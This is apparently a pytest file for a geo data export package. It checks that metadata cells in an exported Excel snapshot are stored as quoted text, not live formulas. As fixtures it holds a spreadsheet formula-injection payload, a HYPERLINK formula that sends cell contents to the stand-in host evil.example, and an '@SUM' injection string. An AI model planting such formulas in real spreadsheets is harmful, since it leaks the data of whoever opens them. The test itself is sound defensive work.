"""The metadata of a snapshot is data too: in an Excel file its cells are text, never formulas."""

import openpyxl

import geo.io.export as export_pkg
from geo.core.filter import Filter
from geo.io import export

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"open")'


def test_xlsx_metadata_sheet_cells_are_text(data, tmp_path, monkeypatch):
    real = export_pkg.metadata

    def hostile(*args, **kwargs):
        return real(*args, **kwargs) | {"filter_summary": EVIL, "note": "@SUM(A1:A9)"}

    monkeypatch.setattr(export_pkg, "metadata", hostile)
    snap = export.export(data, Filter(sectors=["检验检测"]), "xlsx", tmp_path)
    ws = openpyxl.load_workbook(snap.path)["metadata"]
    cells = {r[0].value: r[1] for r in ws.iter_rows(min_row=2)}
    for key, text in (("filter_summary", EVIL), ("note", "@SUM(A1:A9)")):
        assert cells[key].value == text and cells[key].data_type == "s" and cells[key].quotePrefix
    assert set(export.read_snapshot(snap.path)) == {"parcels", "zones", "projects"}
